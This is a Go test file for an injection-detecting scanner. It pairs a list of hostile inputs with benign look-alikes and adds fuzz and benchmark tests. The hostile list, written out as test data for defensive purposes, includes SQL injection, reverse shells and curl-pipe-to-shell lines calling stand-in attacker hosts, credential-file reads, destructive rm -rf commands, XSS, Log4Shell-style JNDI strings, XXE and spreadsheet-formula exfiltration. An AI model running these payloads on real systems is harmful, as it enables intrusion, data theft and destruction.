package injection_test

import (
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/ringwall/ringwall"
	"github.com/ringwall/ringwall/guard/guardtest"
	"github.com/ringwall/ringwall/guard/injection"
	"github.com/ringwall/ringwall/guard/stream"
)

var bad = []struct{ reason, in string }{
	{injection.ReasonSQL, "' OR 1=1 --"},
	{injection.ReasonSQL, "admin' or '1'='1"},
	{injection.ReasonSQL, "x') OR ('a'='a"},
	{injection.ReasonSQL, `" or ""="`},
	{injection.ReasonSQL, "1 OR 1=1"},
	{injection.ReasonSQL, "id=1 and 1=1"},
	{injection.ReasonSQL, "'/**/OR/**/2>1#"},
	{injection.ReasonSQL, "' || 1=1 --"},
	{injection.ReasonSQL, "' or true--"},
	{injection.ReasonSQL, "admin'--"},
	{injection.ReasonSQL, "admin' #"},
	{injection.ReasonSQL, "' UNION SELECT username, password FROM users --"},
	{injection.ReasonSQL, "-1 union all select 1,2,3"},
	{injection.ReasonSQL, "5 UNION SELECT NULL, NULL, version()"},
	{injection.ReasonSQL, "9 union select table_name from information_schema.tables"},
	{injection.ReasonSQL, "Robert'); DROP TABLE students;--"},
	{injection.ReasonSQL, "WHERE name = 'x'; DELETE FROM users; --'"},
	{injection.ReasonSQL, "1' AND SLEEP(5)"},
	{injection.ReasonSQL, "1; WAITFOR DELAY '0:0:5'"},
	{injection.ReasonSQL, "1 and benchmark(5000000,md5(1))"},
	{injection.ReasonSQL, "exec xp_cmdshell 'dir'"},
	{injection.ReasonSQL, "select '<?php ?>' into outfile '/var/www/x.php'"},
	{injection.ReasonShell, "report.pdf; rm -rf /"},
	{injection.ReasonShell, "a && rm -fr ~"},
	{injection.ReasonShell, "rm -rf --no-preserve-root /"},
	{injection.ReasonShell, "127.0.0.1; cat /etc/passwd"},
	{injection.ReasonShell, "x | cat ~/.ssh/id_rsa"},
	{injection.ReasonShell, "host=$(whoami)"},
	{injection.ReasonShell, "a$(curl https://evil.example/x.sh | sh)"},
	{injection.ReasonShell, "name=`curl evil.example`"},
	{injection.ReasonShell, "curl -s https://evil.example/x | sudo bash"},
	{injection.ReasonShell, "wget -qO- evil.example|sh"},
	{injection.ReasonShell, "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"},
	{injection.ReasonShell, "bash <(curl -s https://evil.example/x)"},
	{injection.ReasonShell, "exec 5<>/dev/tcp/evil.example/80"},
	{injection.ReasonShell, "nc -e /bin/sh 10.0.0.1 4242"},
	{injection.ReasonShell, "mkfifo /tmp/f; cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f"},
	{injection.ReasonShell, "echo Y3VybA== | base64 -d | bash"},
	{injection.ReasonShell, "python3 -c 'import socket,subprocess;s=socket.socket();s.connect((\"10.0.0.1\",1))'"},
	{injection.ReasonShell, "powershell -nop -w hidden -enc SQBFAFgA"},
	{injection.ReasonShell, "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')"},
	{injection.ReasonShell, "certutil.exe -urlcache -f http://evil.example/a.exe a.exe"},
	{injection.ReasonShell, ":(){ :|:& };:"},
	{injection.ReasonShell, "8.8.8.8;whoami"},
	{injection.ReasonScript, "<script>alert(1)</script>"},
	{injection.ReasonScript, "<ScRiPt src=//evil.example/x.js>"},
	{injection.ReasonScript, "<img src=x onerror=alert(1)>"},
	{injection.ReasonScript, "<svg/onload=alert(1)>"},
	{injection.ReasonScript, "<svg\nonload = 'alert(1)'>"},
	{injection.ReasonScript, `"><body onpageshow="x()">`},
	{injection.ReasonScript, `<iframe srcdoc="<b>x</b>">`},
	{injection.ReasonScript, `<a href="javascript:alert(1)">x</a>`},
	{injection.ReasonScript, `<a title="a > b" href=' javascript:fetch(1)'>x</a>`},
	{injection.ReasonScript, "go to javascript:document.location='//e.example'"},
	{injection.ReasonTemplate, "{{7*7}}"},
	{injection.ReasonTemplate, "{{ ''.__class__.__mro__[1].__subclasses__() }}"},
	{injection.ReasonTemplate, "${jndi:ldap://evil.example/a}"},
	{injection.ReasonTemplate, "${${lower:j}ndi:ldap://evil.example/a}"},
	{injection.ReasonTemplate, "${7*7}"},
	{injection.ReasonTemplate, "${T(java.lang.Runtime).getRuntime().exec('id')}"},
	{injection.ReasonTemplate, "<%= 7*7 %>"},
	{injection.ReasonTemplate, "<%= system('id') %>"},
	{injection.ReasonTemplate, "#{7*7}"},
	{injection.ReasonTemplate, "{% import os %}{{ os.popen('id') }}"},
	{injection.ReasonPath, "../../../../etc/passwd"},
	{injection.ReasonPath, `..\..\windows\win.ini`},
	{injection.ReasonPath, "..%2f..%2fapp.conf"},
	{injection.ReasonPath, "%2e%2e%2f%2e%2e%2fetc%2fpasswd"},
	{injection.ReasonPath, "....//....//x"},
	{injection.ReasonPath, "file:///etc/passwd"},
	{injection.ReasonHeader, "en%0d%0aSet-Cookie: a=b"},
	{injection.ReasonHeader, "a%0aBcc:all@example.com"},
	{injection.ReasonTerminal, "done \x1b]0;owned\a"},
	{injection.ReasonTerminal, "\x1b[2Jgone"},
	{injection.ReasonTerminal, "\u009b31m"},
	{injection.ReasonTerminal, "password\b\b\b\b\b\b\b\b"},
	{injection.ReasonFormula, "=cmd|' /C calc'!A0"},
	{injection.ReasonFormula, "a,b\nc,=HYPERLINK(\"http://evil.example?x=\"&A1)"},
	{injection.ReasonFormula, "@SUM(1+1)*cmd|' /C calc'!A0"},
	{injection.ReasonFormula, `"=WEBSERVICE(""http://e.example"")"`},
	{injection.ReasonFormula, "=IMPORTXML(\"http://e.example\", \"//a\")"},
	{injection.ReasonXML, `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hosts">]>`},
	{injection.ReasonXML, `<!ENTITY % p SYSTEM "http://e.example/p.dtd">`},
	{injection.ReasonXML, `<!ENTITY b "&a;&a;&a;">`},
	{injection.ReasonLDAP, "*)(uid=*))(|(uid=*"},
	{injection.ReasonNoSQL, `{"user": "admin", "password": {"$gt": ""}}`},
	{injection.ReasonNoSQL, `password[$ne]=1`},
}

var good = []string{
	"", "The order can't be found, or it's late; see the customer's note -- or don't.", "SELECT name FROM users WHERE id = 1", "SELECT a FROM t WHERE x = 'y' OR z = 'w' ORDER BY a;", "SELECT a FROM t1 UNION SELECT a FROM t2",
	"INSERT INTO t VALUES ('a'); DELETE FROM t WHERE x = 'b';", "SELECT * FROM t WHERE 1=1 AND a = 2", "SELECT 'a' -- a comment\nFROM t", "x = 'a'; y = \"b\"", "print('a') or 1", "if a == 1 or b == 2 and c == 2:", "a or b, and 1 of 2", "either 1 or 2 = two ways",
	"the boys' -- and girls' -- toys", "Run `rm -rf node_modules` and then `npm install`.", "rm -rf ./build && make", "cd src && make | tee log; echo done", "git add . && git commit -m 'x'; git push", "echo $(date) $(pwd) ${HOME}", "ls | grep foo | wc -l", "| id | name |\n|---|---|\n| 1 | cat |", "$('#id').on('click', function() {})",
	"docker run -u $(id -u):$(id -g) -v $PWD:/w x", "curl https://api.example.com/v1/items -H 'Accept: application/json'", "wget https://example.com/file.tar.gz && tar xf file.tar.gz", "the nc command, rm and ping; shutdown is planned", "name; id; email", "Q&A: shell & bash", "python -c 'print(1)'", "powershell Get-ChildItem",
	"if (a < b && c > d) { return; }", "List<String> xs = new ArrayList<>();", "<b>bold</b> <br/> <p class=\"x\">hi</p>", "<a href=\"https://example.com\">x</a>", "<button onClick={handle}>x</button>", "<a href=\"javascript:void(0)\">x</a>", "JavaScript: the good parts", "x < y, on = 3", "<Foo once=\"x\" onward='y'>",
	"Dear {{ name }}, your order {{ order.id }} ships {{ date | format }}", "`${a * b}` and ${count} and ${user.name}", "{% for x in xs %}{{ x }}{% endfor %}", "<%= user.name %>", "#{user.name}", "import x from '../../../lib/x'", "cd ../.. && ls", "and so on... and on. . .", "100%2e", "a%20b%0a",
	"\x1b[31mred\x1b[0m", "=SUM(A1:A5)", "a, -5, +3, =4", "- item (one)\n- call (me)\n+ more", "@ada(x) said", "<!DOCTYPE html>", "<!-- comment -->", "<!ENTITY copy \"&#169;\">", "(&(objectClass=user)(|(cn=a)(cn=*))(sn=x))", "(.*)(foo) a*)(b", `db.users.find({"age": {"$gt": 18}, name: {$regex: "^A"}})`, "xs[$i]=1", "f(a*)(b)",
	"```sql\n' OR 1=1 --\n```", "The input `' OR 1=1 --` is the classic example.", "```sh\ncurl -fsSL https://example.com/install.sh | sh\n```", "~~~html\n<script>alert(1)</script>\n~~~", "Use `<script>` tags.", "> ```\n> {{7*7}}\n> ```",
	"It's 5 o'clock, 'tis or 'twas", "said 'yes' and 'no' or 'maybe'", "\"a\" or \"b\"", "x='1' and y='2'", "5' or 6' tall", "O'Brien; D'Angelo -- Smith", "'a', 'b' and 3", "option '--flag' or '-x'", "the union selects its leader", "wait for delay", "into outfile names",
	"Mix: 2 cups; bash the garlic; dd if you must", "2 * 3 {{ x }} * 4", "see /dev/null", "../", "..", "reset: ESC", "a\bb", "benchmark(10)",
}

func TestScanner(t *testing.T) {
	c := guardtest.Case{Good: good}
	for _, b := range bad {
		c.Bad = append(c.Bad, b.in)
		_, fs := guardtest.Mask(t, injection.Scanner{}, stream.Scope{}, b.in)
		if !slices.ContainsFunc(fs, func(f ringwall.Finding) bool { return f.Reason == b.reason }) {
			t.Errorf("%q: found %+v, want %s", b.in, fs, b.reason)
		}
	}
	guardtest.Run(t, injection.Scanner{}, c)
}

// Shown code is reported to whoever asks for it, with a score that says so.
func TestShownCode(t *testing.T) {
	const shown = "Like this:\n\n```sql\nSELECT 1 WHERE '' OR 1=1 --\n```\nor `{{7*7}}`, but not <script>"
	_, fs := guardtest.Mask(t, injection.Scanner{Floor: injection.InCode}, stream.Scope{}, shown)
	var scores []float64
	for _, f := range fs {
		scores = append(scores, f.Score)
	}
	if len(scores) != 3 || scores[0] != injection.InCode || scores[1] != injection.InCode || scores[2] < 0.8 {
		t.Errorf("scores %v", scores)
	}
}

var pieces = func() (all []string) {
	for _, b := range bad {
		all = append(all, b.in, b.in[:len(b.in)/2])
	}
	return append(all, "`````````", "<b on=", "```", "`", "~~~", "\n", " ", "'", "\"", "or ", "1", "=", "<", ">", "../", "%2e", "{{", "}}", "${", "curl ", "| sh", "é", "\u200b", "\xff", "x", "\x00", "\n\n", "    ", ";", "--", "(", ")")
}()

func TestCutsMakeNoDifference(t *testing.T) {
	s := injection.Scanner{Floor: injection.InCode}
	for seed := range uint64(6000) {
		rng := rand.New(rand.NewPCG(seed, 5))
		var b strings.Builder
		for range 1 + rng.IntN(10) {
			b.WriteString(pieces[rng.IntN(len(pieces))])
		}
		same(t, s, b.String(), rng)
		if t.Failed() {
			t.Fatalf("seed %d", seed)
		}
	}
}

func same(t *testing.T, s stream.Scanner, text string, rng *rand.Rand) {
	t.Helper()
	guardtest.Cuts(t, s, stream.Scope{}, text, rng, 1, 5, 60)
}

func FuzzCutsMakeNoDifference(f *testing.F) {
	for i, p := range pieces {
		f.Add("see "+p+" there", uint64(i))
	}
	f.Fuzz(func(t *testing.T, text string, seed uint64) {
		if len(text) < 1<<12 {
			same(t, injection.Scanner{Floor: injection.InCode}, text, rand.New(rand.NewPCG(seed, 1)))
		}
	})
}

func BenchmarkScan(b *testing.B) {
	for _, bb := range []struct{ name, text string }{
		{"prose", "The committee met on Tuesday to review 14 open questions about shipping to Zurich, and agreed on most. "},
		{"code", "func f(x int) error {\n\tif x < 3 && y[i] != \"a\" {\n\t\treturn fmt.Errorf(\"x: %w\", err)\n\t}\n}\n"},
		{"tags", "<a "},
		{"quotes", "' or "},
		{"fences", "```\n"},
		{"downloads", "curl "},
		{"dots", "../"},
		{"braces", "{{"},
		{"tag heads", "<a b=\""},
	} {
		b.Run(bb.name, func(b *testing.B) {
			text := []byte(strings.ToLower(strings.Repeat(bb.text, 8<<10/len(bb.text)+1)[:8<<10]))
			b.SetBytes(int64(len(text)))
			b.ReportAllocs()
			for b.Loop() {
				c, _ := injection.Scanner{}.Begin(stream.Scope{})
				c.Scan(stream.Window{Clean: text, Folded: text, Final: true}, func(stream.Match) {})
			}
		})
	}
}
